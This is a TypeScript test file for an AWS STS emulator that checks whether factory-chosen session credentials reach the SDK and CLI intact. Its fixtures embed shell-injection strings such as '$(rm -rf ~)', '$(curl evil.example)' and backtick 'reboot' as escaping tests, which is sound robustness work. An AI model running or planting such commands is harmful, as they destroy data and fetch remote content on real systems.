import assert from 'node:assert/strict';
import { afterEach, beforeEach, describe, it } from 'node:test';
import { AssumeRoleCommand, GetCallerIdentityCommand, GetSessionTokenCommand } from '@aws-sdk/client-sts';
import { startEmulator } from './emulator.js';
import type { Emulator, IssueContext, SessionKeys, UserKeys } from './emulator.js';
import { keysOf, runAwsCli, stsClient } from './test-support.js';

process.env.AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED = 'true';

const ROLE = 'arn:aws:iam::222222222222:role/reader';

/** Values that break careless shell quoting, XML and JSON. Not signable: the key has a slash, the token a newline. */
const HOSTILE: SessionKeys = {
  accessKeyId: `ASIA'"$(touch /tmp/pwned)\`id\`;&|<>`,
  secretAccessKey: `  s e c r e t 'single' "double" \\ $HOME $(rm -rf ~) ]]> &amp; <b>\nline two ünïcødé 🎉  `,
  sessionToken: `tok'en"\n\t$(curl evil.example)\`reboot\`; echo \${PATH} % ! # * ? [a] {b} ~ é 中文`,
};

/** Hostile but signable: nothing a header or the credential scope cannot carry. */
const SIGNABLE: SessionKeys = {
  accessKeyId: `ASIA'"$(id)\`x\`;&|<>!*`,
  secretAccessKey: `'"$(reboot)\\\n ünïcødé 🎉 ]]>`,
  sessionToken: `tok'"$(id) \`x\`; & | < > \${HOME} ]]> =+/`,
};

describe('issued credentials', () => {
  let emu: Emulator;
  let alice: UserKeys;

  beforeEach(async () => {
    emu = await startEmulator();
    alice = emu.addUser({ name: 'alice' });
    emu.addRole({ arn: ROLE, trust: [alice.arn] });
  });
  afterEach(async () => {
    await emu.close();
  });

  it('hands the values a credential factory chose to the SDK byte for byte', async () => {
    emu.setCredentialFactory(() => HOSTILE);
    const result = await stsClient(emu, alice).send(new AssumeRoleCommand({ RoleArn: ROLE, RoleSessionName: 'hostile' }));
    assert.deepEqual(keysOf(result.Credentials), HOSTILE);
    const session = await stsClient(emu, alice).send(new GetSessionTokenCommand({}));
    assert.deepEqual(keysOf(session.Credentials), HOSTILE);
  });

  it('hands them to the AWS CLI v2 intact as well', async () => {
    emu.setCredentialFactory(() => HOSTILE);
    const result = await runAwsCli(emu, alice, ['sts', 'assume-role', '--role-arn', ROLE, '--role-session-name', 'cli']);
    assert.equal(result.code, 0);
    const printed = JSON.parse(result.stdout) as { Credentials: Record<string, string> };
    assert.equal(printed.Credentials.AccessKeyId, HOSTILE.accessKeyId);
    assert.equal(printed.Credentials.SecretAccessKey, HOSTILE.secretAccessKey);
    assert.equal(printed.Credentials.SessionToken, HOSTILE.sessionToken);
  });

  it('stores chosen values, so signable ones authenticate the next request', async () => {
    emu.setCredentialFactory(() => SIGNABLE);
    const result = await stsClient(emu, alice).send(new AssumeRoleCommand({ RoleArn: ROLE, RoleSessionName: 'signable' }));
    assert.deepEqual(keysOf(result.Credentials), SIGNABLE);
    const identity = await stsClient(emu, SIGNABLE).send(new GetCallerIdentityCommand({}));
    assert.equal(identity.Arn, 'arn:aws:sts::222222222222:assumed-role/reader/signable');
  });

  it('fills in what the factory leaves out and tells it what it issues for', async () => {
    const contexts: IssueContext[] = [];
    emu.setCredentialFactory((context) => {
      contexts.push(context);
      return { sessionToken: 'only-the-token' };
    });
    const result = await stsClient(emu, alice).send(new AssumeRoleCommand({ RoleArn: ROLE, RoleSessionName: 'partial' }));
    assert.match(result.Credentials?.AccessKeyId ?? '', /^ASIA[A-Z0-9]{16}$/);
    assert.equal(result.Credentials?.SessionToken, 'only-the-token');
    await stsClient(emu, alice).send(new GetSessionTokenCommand({}));
    assert.deepEqual(contexts, [
      { action: 'AssumeRole', accountId: '222222222222', roleArn: ROLE, roleSessionName: 'partial' },
      { action: 'GetSessionToken', accountId: '111111111111' },
    ]);
    emu.setCredentialFactory(undefined);
    const random = await stsClient(emu, alice).send(new GetSessionTokenCommand({}));
    assert.notEqual(random.Credentials?.SessionToken, 'only-the-token');
  });
});

describe('issueRoleCredentials', () => {
  let emu: Emulator;

  beforeEach(async () => {
    emu = await startEmulator();
    emu.addRole({ arn: ROLE, trust: [] });
  });
  afterEach(async () => {
    await emu.close();
  });

  it('issues a role session that STS accepts as that role, without a trust check', async () => {
    const issued = emu.issueRoleCredentials(ROLE, { sessionName: 'i-0abc', durationSeconds: 900 });
    assert.equal(issued.arn, 'arn:aws:sts::222222222222:assumed-role/reader/i-0abc');
    assert.equal(issued.expiration.getTime() - emu.now().getTime() <= 900_000, true);
    const identity = await stsClient(emu, issued).send(new GetCallerIdentityCommand({}));
    assert.equal(identity.Arn, issued.arn);
  });

  it('refuses a role that does not exist', () => {
    assert.throws(() => emu.issueRoleCredentials('arn:aws:iam::222222222222:role/nobody'), /no role/);
  });
});
